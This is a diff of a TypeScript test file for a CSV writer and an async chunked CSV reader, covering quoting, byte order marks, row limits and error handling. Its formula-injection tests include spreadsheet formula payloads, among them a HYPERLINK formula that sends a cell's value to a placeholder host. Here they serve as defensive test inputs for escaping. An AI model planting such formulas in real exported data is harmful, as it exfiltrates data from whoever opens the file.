@@ -1,11 +1,15 @@
 import { describe, expect, it } from '@jest/globals';
-import { CsvReader, csvRow } from './csv.js';
+import { csvRow, csvRows } from './csv.js';
+import { MalformedImport } from './errors.js';
 
-const read = (text: string, pieceLength: number): string[][] => {
-  const reader = new CsvReader();
+async function* inChunks(text: string, length: number): AsyncGenerator<string> {
+  for (let i = 0; i < text.length; i += length) yield Promise.resolve(text.slice(i, i + length));
+}
+
+const read = async (text: string, length: number): Promise<string[][]> => {
   const rows: string[][] = [];
-  for (let i = 0; i < text.length; i += pieceLength) rows.push(...reader.push(text.slice(i, i + pieceLength)));
-  return [...rows, ...reader.end()];
+  for await (const row of csvRows(inChunks(text, length))) rows.push(row);
+  return rows;
 };
 
 describe('CSV', () => {
@@ -16,31 +20,31 @@ describe('CSV', () => {
     ['ü☀', '"'],
   ];
 
-  it.each([1, 2, 7, 1_000])('what is written is read, in pieces of %i', (length) => {
-    expect(read(rows.map(csvRow).join(''), length)).toEqual(rows);
+  it.each([1, 2, 7, 1_000])('what is written is read, in pieces of %i', async (length) => {
+    expect(await read(rows.map(csvRow).join(''), length)).toEqual(rows);
   });
 
   const formulas = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '=HYPERLINK("http://a/?"&A1,"b")'];
 
-  it.each(formulas)('%j at the start of a cell is a text to a spreadsheet, and read as it was', (text) => {
+  it.each(formulas)('%j at the start of a cell is a text to a spreadsheet, and read as it was', async (text) => {
     for (const cell of [text, `'${text}`, `''${text}`]) {
       const line = csvRow([cell, 'b']);
       expect(line).toMatch(/^"?'/);
-      expect(read(line, 1)).toEqual([[cell, 'b']]);
+      expect(await read(line, 1)).toEqual([[cell, 'b']]);
     }
   });
 
-  it.each(["it's", "'quoted'", 'a=b', '1-2', "'"])('%j stays as it is', (text) => {
+  it.each(["it's", "'quoted'", 'a=b', '1-2', "'"])('%j stays as it is', async (text) => {
     expect(csvRow([text])).toBe(`${text}\r\n`);
-    expect(read(csvRow([text]), 1)).toEqual([[text]]);
+    expect(await read(csvRow([text]), 1)).toEqual([[text]]);
   });
 
-  it('a formula that a table brings without the apostrophe is taken as it is', () => {
-    expect(read("=1,'x,-5\r\n", 100)).toEqual([['=1', "'x", '-5']]);
+  it('a formula that a table brings without the apostrophe is taken as it is', async () => {
+    expect(await read("=1,'x,-5\r\n", 100)).toEqual([['=1', "'x", '-5']]);
   });
 
-  it('takes a byte order mark, bare line ends and a last line without end; an empty line is a row of one cell', () => {
-    expect(read('\uFEFFa,b\n\n1,2\n3,', 1)).toEqual([['a', 'b'], [''], ['1', '2'], ['3', '']]);
+  it('takes a byte order mark, bare line ends and a last line without end; an empty line is a row of one cell', async () => {
+    expect(await read('\uFEFFa,b\n\n1,2\n3,', 1)).toEqual([['a', 'b'], [''], ['1', '2'], ['3', '']]);
   });
 
   it.each([
@@ -52,14 +56,29 @@ describe('CSV', () => {
       ],
     ],
     ['a,say "so, and"\n', [['a', 'say "so', ' and"']]],
-    ['"a"b,"c""d"\r\n', [['ab', 'c"d']]],
+    ['"a"b,"c""d"\r\n', [['"a"b', 'c"d']]],
     ['"",""\n', [['', '']]],
-  ])('a quote within a cell without quotes is a character: %j', (text, rows) => {
-    for (const length of [1, 100]) expect(read(text, length)).toEqual(rows);
+  ])('a quote within a cell without quotes is a character: %j', async (text, rows) => {
+    for (const length of [1, 100]) expect(await read(text, length)).toEqual(rows);
   });
 
-  it('refuses a quote that is not closed, and a row without end', () => {
-    expect(() => read('a\n"b', 1)).toThrow();
-    expect(() => read('x'.repeat(70_000), 1_000)).toThrow();
+  it('refuses a quote that is not closed, and a row without end', async () => {
+    await expect(read('a\n"b', 1)).rejects.toThrow(MalformedImport);
+    await expect(read('x'.repeat(70_000), 1_000)).rejects.toThrow(MalformedImport);
+  });
+
+  it('limits a row by characters, whatever their number of bytes', async () => {
+    const longest = '\u{1F600}'.repeat(65_536);
+    expect(await read(longest, 1_000)).toEqual([[longest]]);
+    await expect(read(`${longest}x`, 1_000)).rejects.toThrow(MalformedImport);
+  });
+
+  it('passes on why its text ends', async () => {
+    const broken = (async function* () {
+      yield 'a,b\n';
+      throw await Promise.resolve(new MalformedImport('Not UTF-8'));
+    })();
+    const rows = csvRows(broken);
+    await expect(rows.next().then(() => rows.next())).rejects.toThrow(MalformedImport);
   });
 });
